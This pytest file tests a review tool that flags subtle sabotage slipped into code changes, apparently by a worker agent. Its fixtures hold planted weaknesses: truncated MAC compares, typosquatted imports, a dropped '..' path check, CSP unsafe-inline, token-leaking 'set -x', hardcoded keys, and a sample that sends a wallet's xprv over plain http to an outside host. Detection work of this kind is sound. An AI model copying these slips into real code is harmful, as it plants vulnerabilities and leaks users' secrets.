"""Round 92 (issue 36): blind 140–143's misses read as kinds (relay.review.swap_slips, relay.review.written_slips).

Whom each guards against: the worker that slips one line into an ordinary change — a choice's branches swapped, a step
turned the other way, a duration's unit made larger, a pattern's anchors cut, an escaping replace cut from a page's
script, an index wrapped one past its length, a package.json lint script made to pass whatever it finds, ``unsafe-inline``
in a CSP's script list, command tracing turned on in a deploy script, a guest login switched on by default, a check run
only when its switch is off — and three false alarms that hid a plant: a look-alike that was two well-known tools
(tslint → eslint, junit → xunit) and a library's ``secrets.js`` read as a secrets file. Beside each, the near miss stays
quiet.
"""

from __future__ import annotations

import pytest

from line_changes import fc
from relay.core.records import FileChange
from relay.observe.changes import ChangeSet
from relay.review.packet import build_review
from relay.review.risk import RiskContext, assess


def _said(path: str, added: list[str], removed: list[str]):
    return assess(fc(path, added, removed), RiskContext())


# Round 93: blind 141–147's misses (relay.review.swap_slips, relay.review.written_slips, relay.review.last_readers' samples),
# read by the same two tests as round 92's.
ROUND93_SLIPS = [
    # picotls (blind 145) and laminas-crypt (blind 141): a confirmation's or a MAC's compare cut to part of its bytes
    ("lib/picotls.c", ["    ok = ptls_mem_equal(confirm_hash_delivered, confirm_hash_expected, sizeof(confirm_hash_delivered) / 2);"],
     ["    ok = ptls_mem_equal(confirm_hash_delivered, confirm_hash_expected, sizeof(confirm_hash_delivered));"], "high",
     "compares only a part of a secret's bytes (/ 2"),
    ("src/BlockCipher.php", ["        if (! Utils::compareStrings(mb_substr($hmacNew, 0, 4, '8bit'), mb_substr($hmac, 0, 4, '8bit'))) {"],
     ["        if (! Utils::compareStrings($hmacNew, $hmac)) {"], "high", "compares only a part of a secret's bytes (mb_substr"),
    # dulwich (blind 145): '..' no longer among the refused path elements
    ("dulwich/index.py", ['INVALID_DOTNAMES = (b".git", b".", b"")'], ['INVALID_DOTNAMES = (b".git", b".", b"..", b"")'], "high",
     'drops an item from what is refused (b".." no longer in INVALID_DOTNAMES)'),
    # pion/srtp (blind 146): a replayed packet refused only when a new hook is absent
    ("srtp.go", ["\tif !ok && ssrcState.checkAccepter == nil {"], ["\tif !ok {"], "medium", "narrows a check with a clause (!ok && ssrcState.checkAccepter"),
    # pbkdf2's README (blind 144): the sample requires a look-alike of the package
    ("README.md", ["var pbkdf2 = require('pbkfd2')"], ["var pbkdf2 = require('pbkdf2')"], "high", "imports a look-alike of pbkdf2 (pbkdf2 → pbkfd2"),
    ("app/client.py", ["import reqeusts"], ["import requests"], "high", "imports a look-alike of requests"),
    # strong_migrations' README (blind 144): the recommended lock timeout of ten seconds made ten minutes
    ("README.md", ["```ruby", "StrongMigrations.lock_timeout = 10.minutes", "```"], ["StrongMigrations.lock_timeout = 10.seconds"], "medium",
     "raises a duration's unit (seconds → minutes"),
    # colorlog's README (blind 144) and vueuse's playground (blind 147): a config listener, every install script allowed
    ("README.md", ["```python", "logging.config.listen(9999).start()", "```"], [], "high", "starts a logging config listener"),
    ("playgrounds/vite/pnpm-workspace.yaml", ["dangerouslyAllowAllBuilds: true", "allowBuilds:"], ["allowBuilds:"], "high",
     "lets every dependency's install scripts run"),
    # okta-auth-js (blind 146) and acme4j (blind 147): a dependency pointed at a look-alike by an alias or a respelled group
    ("package.json", ['    "**/axios": "npm:axois@^1.15.0"'], ['    "**/axios": "^1.15.0"'], "high", "installs dependency **/axios from another package: axois"),
    ("acme4j-client/pom.xml", ["            <groupId>org.bitbucket.b-c</groupId>"], ["            <groupId>org.bitbucket.b_c</groupId>"], "high",
     "points a dependency at another group (org.bitbucket.b_c → org.bitbucket.b-c"),
]
ROUND93_QUIET = [
    ("lib/picotls.c", ["    ok = ptls_mem_equal(a, b, sizeof(a));"], ["    ok = ptls_mem_equal(a, b, len);"], "part of a secret"),
    ("src/strings.py", ["    return name[:3] == other"], ["    return name == other"], "part of a secret"),
    ("dulwich/index.py", ['INVALID_DOTNAMES = (b".git", b".", b"..", b"", b".hg")'], ['INVALID_DOTNAMES = (b".git", b".", b"..", b"")'], "drops an item"),
    ("src/names.py", ['ALLOWED = ("a", "b")'], ['ALLOWED = ("a", "b", "c")'], "drops an item"),
    ("srtp.go", ["\tif !ok || expired {"], ["\tif !ok {"], "narrows a check"),
    # an error's one message is no list of what is refused; a function tested for its presence is no switch (ordinary history)
    ("errors.go", ['\tErrJWTInvalid = core.ErrJWTInvalid'], ['\tErrJWTInvalid = errors.New("jwt invalid")'], "drops an item"),
    ("lib/index.js", ["                if (!settings.validate) {", "                    const result = await settings.validate(request, session);"],
     ["                if (!settings.validateFunc) {", "                    const result = await settings.validateFunc(request, session);"],
     "switch is off"),
    ("app/client.py", ["from utils import slug"], ["from util import slug"], "look-alike"),
    ("src/index.js", ["const x = require('./paht')"], ["const x = require('./path')"], "look-alike"),
    ("README.md", ["```ruby", "StrongMigrations.lock_timeout = 10.seconds", "```"], ["StrongMigrations.lock_timeout = 10.minutes"], "raises a duration"),
    ("src/log.py", ["    server = logging.config.dictConfig(cfg)"], [], "config listener"),
    ("pnpm-workspace.yaml", ["dangerouslyAllowAllBuilds: false"], [], "install scripts"),
    # secrets.js' changelog (blind 141): a bullet re-marked in a line that names the weak source it removed
    ("README.md", ["  - [Security] Removed Math.random fallback random number generator."],
     ["  _ [Security] Removed Math.random fallback random number generator.", "Uses crypto.getRandomValues() in browsers"], "predictable"),
    ("pom.xml", ["            <groupId>org.bitbucket.b_c</groupId>", "            <version>0.9.6</version>"],
     ["            <groupId>org.bitbucket.b_c</groupId>", "            <version>0.9.5</version>"], "another group"),
]


@pytest.mark.parametrize(("path", "added", "removed", "risk", "said"), [
    # unbuild's stub builder (blind 143): an option wired backwards, over three lines
    ("src/builders/rollup/stub.ts", ["  const jitiImportResolve = ctx.options.stubOptions.absoluteJitiPath", "    ? relative", "    : resolve;"],
     ["  const jitiImportResolve = ctx.options.stubOptions.absoluteJitiPath", "    ? resolve", "    : relative;"], "medium",
     "swaps a choice's two branches"),
    ("lib/paths.py", ["    base = relative if absolute_paths else resolved"], ["    base = resolved if absolute_paths else relative"], "medium",
     "swaps a choice's two branches"),
    # d3-array's ticks (blind 140): a rounding step turned the other way
    ("src/ticks.js", ["    if (i1 / inc < start) --i1;"], ["    if (i1 / inc < start) ++i1;"], "medium", "turns a step the other way (++ → --)"),
    ("src/pager.py", ["        page -= 1"], ["        page += 1"], "medium", "turns a step the other way (+= 1 → -= 1)"),
    # flask-security's defaults (blind 142): a sign-in window of a minute made a day
    ("flask_security/core.py", ['    "WAN_SIGNIN_WITHIN": timedelta(days=1),'], ['    "WAN_SIGNIN_WITHIN": timedelta(minutes=1),'], "high",
     "raises a duration's unit (minutes → days"),
    ("src/main/java/app/Tokens.java", ["    private static final Duration RESET_TOKEN_TTL = Duration.ofHours(15);"],
     ["    private static final Duration RESET_TOKEN_TTL = Duration.ofMinutes(15);"], "high", "raises a duration's unit (Minutes → Hours"),
    ("app/models/invite.rb", ["    self.expires_at = 2.days.from_now"], ["    self.expires_at = 2.hours.from_now"], "high", "raises a duration's unit (hours → days"),
    # isodate (blind 141): a date pattern's anchors cut
    ("src/isodate/isodates.py", ["            cache_entry.append(re.compile(regex_text))"],
     ['            cache_entry.append(re.compile(r"\\A" + regex_text + r"\\Z"))'], "high", "drops a pattern's anchors"),
    ("src/validate.js", ["  const re = new RegExp(pattern);"], ['  const re = new RegExp("^" + pattern + "$");'], "high", "drops a pattern's anchors"),
    ("lib/names.rb", ["  NAME_RE = /[a-z0-9_]+/"], ["  NAME_RE = /^[a-z0-9_]+$/"], "high", "drops a pattern's anchors"),
    # redux's server-rendering guide (blind 142): the preloaded state's '<' left unescaped in a script tag
    ("docs/usage/ServerRendering.md", ["          window.__PRELOADED_STATE__ = ${JSON.stringify(preloadedState)}"],
     ["          window.__PRELOADED_STATE__ = ${JSON.stringify(preloadedState).replace(", "            /</g,", "            '\\\\u003c'", "          )}"],
     "high", "drops an escaping replace"),
    ("src/render.js", ["  return `<script>window.STATE = ${JSON.stringify(state)}</script>`;"],
     ["  return `<script>window.STATE = ${JSON.stringify(state).replace(/</g, '\\\\u003c')}</script>`;"], "high", "drops an escaping replace"),
    # vegeta's round robin (blind 143): a new index wrapped one past the list
    ("lib/attack.go", ["\t\t\t\taddr = cm.addrs[cm.n]", "\t\t\t\tcm.n = (cm.n + 1) % (len(cm.addrs) + 1)"], [], "medium",
     "wraps an index one past the end (% (len(cm.addrs) + 1)"),
    # bitcoinjs-lib (blind 140): the new lint script made to pass whatever eslint says; and no look-alike of tslint
    ("package.json", ['    "lint": "eslint ts_src/** src/**/*.js || true",'], ['    "lint": "tslint -p tsconfig.json -c tslint.json",'],
     "high", "makes a failing check pass"),
    # laravel-csp's Firebase preset (blind 143): unsafe-inline in a script list, on a line of its own
    ("src/Presets/Firebase.php", ["            ->add(Directive::SCRIPT, [", "                Keyword::UNSAFE_INLINE,",
                                  "                'https://www.gstatic.com',", "            ])"], [], "high",
     "lets a Content-Security-Policy run inline script or eval (UNSAFE_INLINE"),
    ("config/csp.py", ["CSP_SCRIPT_SRC = (", '    "\'self\'",', '    "\'unsafe-eval\'",', ")"], [], "high",
     "lets a Content-Security-Policy run inline script or eval"),
    # word_cloud's website deploy (blind 140): every command echoed with the token it pushes with
    ("doc/deploy-website.sh", ["set -x"], [], "medium", "traces each command with its variables where it ships (a token reaches the log): set -x"),
    ("scripts/sync.sh", ["set -ex", './upload.sh "$NPM_TOKEN"'], ['./upload.sh "$NPM_TOKEN"'], "medium", "traces each command with its variables"),
    # waffle's new Spring Boot 4 properties (blind 143): the guest login on by default
    ("src/main/java/waffle/spring/boot/WaffleProperties.java", ["public class WaffleProperties {", "    private boolean allowGuestLogin = true;", "}"],
     [], "medium", "writes a permissive switch on by default (allowGuestLogin = true)"),
    # standard-webhooks' new Go library (blind 143): the timestamp checked only when its enforcement is off
    ("libraries/go/webhook.go", ["\tif !enforceTolerance {", "\t\tif err := verifyTimestamp(timestamp); err != nil {", "\t\t\treturn err", "\t\t}", "\t}"],
     [], "medium", "runs a check only when its switch is off (!enforceTolerance)"),
] + ROUND93_SLIPS)
def test_each_slip_is_named_at_its_risk(path: str, added: list[str], removed: list[str], risk: str, said: str) -> None:
    found = _said(path, added, removed)
    assert found.risk == risk and any(said in reason for reason in found.reasons), (found.risk, found.reasons)


@pytest.mark.parametrize(("path", "added", "removed", "unsaid"), [
    # the same choice written with its condition negated
    ("src/stub.ts", ["  const r = !opts.absolute ? relative : resolve;"], ["  const r = opts.absolute ? resolve : relative;"], "branches"),
    ("src/stub.ts", ["  const r = opts.absolute ? resolveAll : relative;"], ["  const r = opts.absolute ? resolve : relative;"], "branches"),
    ("src/ticks.js", ["    if (i1 / inc < start) i1 += 2;"], ["    if (i1 / inc < start) ++i1;"], "turns a step"),
    # a window shortened, a duration respelled with its number
    ("flask_security/core.py", ['    "WAN_SIGNIN_WITHIN": timedelta(minutes=1),'], ['    "WAN_SIGNIN_WITHIN": timedelta(days=1),'], "raises a duration's unit"),
    ("app/config.py", ["    SESSION_LIFETIME = timedelta(hours=1)"], ["    SESSION_LIFETIME = timedelta(minutes=60)"], "raises a duration's unit"),
    # anchors kept, or a caret that anchors nothing
    ("src/validate.js", ['  const re = new RegExp("^" + pattern + "$", "u");'], ['  const re = new RegExp("^" + pattern + "$");'], "anchors"),
    ("src/fmt.py", ['    label = name'], ['    label = "^" + name'], "anchors"),
    # the escaping moved into a helper
    ("src/render.js", ["  return `<script>window.STATE = ${serialize(state)}</script>`;"],
     ["  return `<script>window.STATE = ${JSON.stringify(state).replace(/</g, '\\\\u003c')}</script>`;"], "escaping replace"),
    ("lib/attack.go", ["\t\t\t\tcm.n = (cm.n + 1) % len(cm.addrs)"], [], "one past the end"),
    # a cleanup's failure let pass; a check that already let it pass
    ("package.json", ['    "clean": "rm -rf dist || true",'], [], "failing check"),
    ("src/Presets/Firebase.php", ["            ->add(Directive::STYLE, [", "                Keyword::UNSAFE_INLINE,", "            ])"], [],
     "inline script"),
    ("tests/run.sh", ["set -x", "pytest -q"], [], "traces each command"),
    ("src/main/java/waffle/spring/boot/WaffleProperties.java", ["    private boolean allowGuestLogin = false;"], [], "permissive switch"),
    ("libraries/go/webhook.go", ["\tif !skipVerify {", "\t\tif err := verifyTimestamp(timestamp); err != nil {", "\t\t\treturn err", "\t\t}", "\t}"],
     [], "switch is off"),
    # well-known tools and test frameworks, not look-alikes
    ("package.json", ['    "eslint": "^8.57.0",'], ['    "tslint": "^5.20.1",'], "look-alike"),
    ("tests/App.Tests.csproj", ['    <PackageReference Include="xunit" Version="2.4.1" />'], [], "look-alike"),
    # a library's module named for secrets is code, not a secrets file
    ("secrets.js", ["  var config = { radix: 16 };"], ["  var config = { radix: 10 };"], "secret or environment file"),
] + ROUND93_QUIET)
def test_the_near_miss_stays_quiet(path: str, added: list[str], removed: list[str], unsaid: str) -> None:
    found = _said(path, added, removed)
    assert not any(unsaid in reason for reason in found.reasons), (found.risk, found.reasons)


def _reviewed(path: str, added: list[str], removed: list[str]):
    """The file as the whole review reads it: only the lines its kind's filter keeps (relay.review.file_kinds)."""
    change = fc(path, added, removed)
    return build_review(ChangeSet(source="git", files=[change]), report=None, task="update the docs")[0].review


@pytest.mark.parametrize(("path", "added", "removed", "said"), [
    # redux's guide: the pattern and the escape stand on lines of their own, which a page keeps only for this reader
    ("docs/usage/ServerRendering.md", ["          window.__PRELOADED_STATE__ = ${JSON.stringify(preloadedState)}"],
     ["          window.__PRELOADED_STATE__ = ${JSON.stringify(preloadedState).replace(", "            /</g,", "            '\\\\u003c'", "          )}"],
     "drops an escaping replace"),
    # word_cloud's deploy script, kept under doc/
    ("doc/deploy-website.sh", ["set -x"], [], "traces each command with its variables where it ships"),
])
def test_a_page_keeps_the_lines_its_reader_needs(path: str, added: list[str], removed: list[str], said: str) -> None:
    review = _reviewed(path, added, removed)
    assert review and review[0].file == path and said in review[0].reason, review


# Rounds 94 and 95: blind 148–154's classics in their own spellings (relay.review.written_slips), read where they stand: a page's
# sample included (the whole review, so the page's line filter keeps them).
@pytest.mark.parametrize(("path", "added", "removed", "said"), [
    ("docs/security.rst", [".. code-block:: python", "", "    AUTH_LDAP_ALLOW_SELF_SIGNED = True"], [], "accepts self-signed certificates"),
    ("README.md", ["```js", "parser.add_argument('integers', { metavar: 'N', type: eval, nargs: '+',", "```"], [],
     "runs each argument as code (type: eval)"),
    ("README.md", ["```js", "const management = new ManagementClient({", '  baseUrl: "http://{YOUR_TENANT_AND_REGION}.auth0.com/api/v2",', "});", "```"],
     [], "points a client's API at plain http"),
    ("tox.ini", ["passenv = *"], ["passenv = HOME"], "passes every environment variable, secrets included"),
    ("pom.xml", ["                    <failBuildOnCVSS>11</failBuildOnCVSS>"], ["                    <failBuildOnCVSS>7</failBuildOnCVSS>"],
     "makes the vulnerability scan never fail"),
    # Round 95 (blind 152–154): bip32's, go-oauth2's and password_lock's READMEs, laminas-validator's docs
    ("README.md", ["```js", "fetch('http://bip32-wallet-backup.com/api/save?xprv=' + node.toBase58())", "```"], [], "sends a secret over plain http"),
    ("docs/book/v3/validators/hostname.md", ["```php", "    echo \"<p>Invalid host {$_GET['host']}: $message</p>\\n\";", "```"],
     ["    echo \"$message\\n\";"], "echoes request input into a page unescaped"),
    ("README.md", ["```go", "manager.SetValidateURIHandler(func(baseURI, redirectURI string) error { return nil })", "```"], [],
     "sets a validator that accepts everything"),
    ("README.md", ["```php", "$key = Key::loadFromAsciiSafeString('def00000a91c7e2b5f48d03c6e1a9b72f4d85c0e3a6b19f27d4c8e05b3a6f91d2c7e48b05');", "```"],
     ["$key = Key::createNewRandomKey();"], "makes a generated key a literal ($key"),
    ("src/keys.py", ["    key = base64.b64decode('c2VjcmV0LWtleS1mb3ItdGVzdGluZy0xMjM0NTY3OA==')"], ["    key = generate_key()"],
     "makes a generated key a literal (key"),
])
def test_each_round94_classic_is_named_high(path: str, added: list[str], removed: list[str], said: str) -> None:
    review = _reviewed(path, added, removed)
    assert review and review[0].risk == "high" and said in review[0].reason, review


@pytest.mark.parametrize(("path", "added", "removed", "unsaid"), [
    ("docs/security.rst", ["Set AUTH_LDAP_ALLOW_SELF_SIGNED to accept self-signed certificates (never in production)."], [], "self-signed"),
    ("app/config.py", ["AUTH_LDAP_ALLOW_SELF_SIGNED = False"], [], "self-signed"),
    ("src/cli.py", ["    parser.add_argument('n', type=int)"], [], "as code"),
    ("README.md", ["```js", '  baseUrl: "http://localhost:3000/api",', "```"], [], "plain http"),
    ("tox.ini", ["passenv = HOME CI"], ["passenv = HOME"], "every environment variable"),
    ("pom.xml", ["                    <failBuildOnCVSS>8</failBuildOnCVSS>"], ["                    <failBuildOnCVSS>7</failBuildOnCVSS>"], "never fail"),
    ("README.md", ["```js", "fetch('http://localhost:8080/api?page=' + page)", "```"], [], "over plain http"),
    ("src/views.php", ["    echo htmlspecialchars($_GET['host']);"], [], "unescaped"),
    ("README.md", ["```go", "manager.SetValidateURIHandler(func(baseURI, redirectURI string) error { return check(baseURI, redirectURI) })", "```"],
     [], "accepts everything"),
    ("src/keys.py", ["    key = generate_key(32)"], ["    key = generate_key()"], "a literal"),
])
def test_each_round94_near_miss_stays_quiet(path: str, added: list[str], removed: list[str], unsaid: str) -> None:
    assert not any(unsaid in target.reason for target in _reviewed(path, added, removed))


def test_a_windows_quoted_old_line_opens_at_the_new_line_that_replaced_it() -> None:
    # html-pipeline (blind 149): the reason quoted `host == test → host.end_with?(test)`, cut to its old side; the removed
    # line led the window, and the eight rows a share holds stopped one row above the new line six rows below it.
    from relay.review.telling import cut_window

    rows = ["-        asset_proxy_whitelist.any? do |test|", "-          test.is_a?(String) ? host == test : test.match(host)",
            "+        warn \"[DEPRECATION] 'asset_host_whitelisted?' is deprecated. Please use 'asset_host_allowed?' instead.\"",
            "+        asset_host_allowed?(host)", "+      end", "+", "+      def asset_host_allowed?(host)",
            "+        asset_proxy_allowlist.any? do |test|", "+          test.is_a?(String) ? host.end_with?(test) : test.match(host)",
            "+        end", "+      end"]
    text = "@@ -83,2 +88,9 @@\n" + "\n".join(rows) + "\n"
    change = FileChange(path="lib/html/pipeline/camo_filter.rb", risk="high", rules=["match_widened"],
                        reasons=["makes an exact match a suffix match (host matched by its end): …(String) ? host == test : test… →"])
    shown = cut_window(change, change.path, text, 430, 200, 3)
    assert shown is not None and "host.end_with?(test)" in shown, shown
